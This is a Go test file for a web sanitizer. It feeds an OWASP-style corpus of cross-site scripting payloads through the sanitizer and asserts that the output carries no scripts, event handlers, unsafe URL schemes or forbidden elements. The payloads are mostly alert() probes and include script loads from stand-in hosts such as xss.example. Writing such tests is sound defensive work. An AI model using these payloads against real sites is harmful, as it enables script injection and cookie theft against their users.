package sanitize

import (
	"fmt"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// xssPayloads is a filter-evasion corpus in the style of the OWASP XSS cheat
// sheet, plus Markdown-specific vectors. It is a function so that the slice
// cannot be shared and mutated between tests.
func xssPayloads() []string {
	return []string{
		`<script>alert(1)</script>`,
		`<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
		`<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>`,
		`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
		`<script/XSS src="http://xss.example/xss.js"></script>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<IMG SRC="javascript:alert('XSS');">`,
		`<IMG SRC=javascript:alert('XSS')>`,
		`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
		"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
		`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
		`<img src=x onerror=alert(1)>`,
		`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
		`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
		`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
		`<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
		"<a href=\"jav\tascript:alert('XSS');\">x</a>",
		`<a href="jav&#x09;ascript:alert('XSS');">x</a>`,
		`<a href="jav&#x0A;ascript:alert('XSS');">x</a>`,
		`<a href=" &#14;  javascript:alert('XSS');">x</a>`,
		`<a href="javascript&colon;alert(1)">x</a>`,
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
		`<a href="vbscript:msgbox(1)">x</a>`,
		`<a href="https://ok.example" onclick="alert(1)" target="_blank" style="color:red" class="c" id="i">x</a>`,
		`<svg/onload=alert('XSS')>`,
		`<svg><script>alert(1)</script></svg>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<BODY ONLOAD=alert('XSS')>`,
		`<iframe src="javascript:alert(1)"></iframe>`,
		`<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
		`<object data="javascript:alert(1)"></object><embed src="x.swf">`,
		`<form action="https://evil.example"><input name=p><button>go</button></form>`,
		`<STYLE>@import'http://xss.example/xss.css';</STYLE>`,
		`<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`,
		`<p style="background-image: url(javascript:alert(1))">x</p>`,
		`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
		`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
		`<TABLE BACKGROUND="javascript:alert('XSS')"><TD BACKGROUND="javascript:alert('XSS')">`,
		`<details open ontoggle=alert(1)>`,
		`<video><source onerror="alert(1)">`,
		`<base href="javascript:alert('XSS');//">`,
		`<a href="//evil.example/x">protocol-relative</a>`,
		"[x](javascript:alert(1))",
		"[x](JaVaScRiPt:alert(1))",
		"[x](javascript&#58;alert(1))",
		"[x](java\u0000script:alert(1))",
		"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
		"[x](vbscript:alert(1))",
		"[x](  javascript:alert(1) \"title\")",
		"[x][ref]\n\n[ref]: javascript:alert(1)",
		"<javascript:alert(1)>",
		"![pixel](https://tracker.example/p.gif)",
		"![x](x \"onerror=alert(1)\")",
		"[a](https://ok.example \"\\\" onmouseover=alert(1) x=\\\"\")",
		"# Title\n\n<div onmouseover=\"alert(1)\">hover</div>\n\n*text*",
		"Some **bold** <b onclick=alert(1)>raw</b> and `<script>` code",
		"```html\n<script>alert(1)</script>\n```",
		"<!--<script>alert(1)</script>-->",
		"<![CDATA[<script>alert(1)</script>]]>",
		"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
		"<a href=\"https://ok.example\">ok</a><a href=\"mailto:x@example.org\">mail</a>",
		"www.example.org/path?q=<script>",
		"| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
	}
}

// forbiddenElements must never appear in a body shown to an editor.
func forbiddenElements() map[string]bool {
	return map[string]bool{
		"script": true, "style": true, "img": true, "iframe": true, "svg": true,
		"math": true, "object": true, "embed": true, "form": true, "input": true,
		"button": true, "link": true, "meta": true, "base": true, "video": true,
		"audio": true, "source": true, "frame": true, "frameset": true,
	}
}

// checkBodyHTML parses out as an editor's browser would and reports every
// way in which it could run script, load a resource or restyle the page.
func checkBodyHTML(out string) []string {
	var problems []string
	forbidden := forbiddenElements()
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return problems
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		if forbidden[tok.Data] {
			problems = append(problems, "element <"+tok.Data+">")
		}
		var href, rel string
		var hasHref bool
		for _, a := range tok.Attr {
			switch {
			case strings.HasPrefix(a.Key, "on"):
				problems = append(problems, "event handler "+a.Key)
			case a.Key == "style" || a.Key == "class" || a.Key == "id" || a.Key == "target" || a.Key == "src":
				problems = append(problems, "attribute "+a.Key)
			case a.Key == "href":
				href, hasHref = a.Val, true
			case a.Key == "rel":
				rel = a.Val
			}
		}
		if hasHref {
			if tok.Data != "a" {
				problems = append(problems, "href on <"+tok.Data+">")
			}
			u, err := url.Parse(href)
			if err != nil || (u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto") {
				problems = append(problems, fmt.Sprintf("href %q", href))
			}
			if rel != linkRel {
				problems = append(problems, fmt.Sprintf("rel %q on href %q", rel, href))
			}
		}
	}
}

// checkLineText reports markup in a Line result: every token must be text.
func checkLineText(out string) []string {
	var problems []string
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return problems
		}
		if tt != html.TextToken {
			problems = append(problems, fmt.Sprintf("%v token %q", tt, z.Raw()))
		}
	}
}

func TestBodyXSSCorpus(t *testing.T) {
	s := New()
	payloads := xssPayloads()
	if len(payloads) < 40 {
		t.Fatalf("corpus has %d payloads, want at least 40", len(payloads))
	}
	for i, p := range payloads {
		t.Run(fmt.Sprintf("%02d", i), func(t *testing.T) {
			out, err := s.Body(p)
			if err != nil {
				t.Fatalf("Body(%q): %v", p, err)
			}
			if problems := checkBodyHTML(out); len(problems) > 0 {
				t.Errorf("Body(%q) = %q\nproblems: %v", p, out, problems)
			}
			// Text such as "javascript:alert(1)" may survive, escaped; a
			// literal tag opener may not.
			if strings.Contains(strings.ToLower(out), "<script") {
				t.Errorf("Body(%q) = %q, contains a script tag", p, out)
			}
		})
	}
}

func TestLineXSSCorpus(t *testing.T) {
	s := New()
	for i, p := range xssPayloads() {
		t.Run(fmt.Sprintf("%02d", i), func(t *testing.T) {
			out := s.Line(p)
			if problems := checkLineText(out); len(problems) > 0 {
				t.Errorf("Line(%q) = %q\nproblems: %v", p, out, problems)
			}
		})
	}
}

// TestCheckersCatchAttacks proves the checkers above are not vacuous: fed
// unsanitised attacks, they must complain.
func TestCheckersCatchAttacks(t *testing.T) {
	bodies := []string{
		`<img src=x>`,
		`<p onclick="x">a</p>`,
		`<p style="color:red">a</p>`,
		`<a href="javascript:alert(1)" rel="` + linkRel + `">x</a>`,
		`<a href="https://ok.example">no rel</a>`,
		`<svg></svg>`,
	}
	for _, b := range bodies {
		t.Run(b, func(t *testing.T) {
			if len(checkBodyHTML(b)) == 0 {
				t.Errorf("checkBodyHTML(%q) found nothing", b)
			}
		})
	}
	for _, l := range []string{"<b>x", "a</p>", "<!-- c -->", "<?php"} {
		t.Run(l, func(t *testing.T) {
			if len(checkLineText(l)) == 0 {
				t.Errorf("checkLineText(%q) found nothing", l)
			}
		})
	}
}
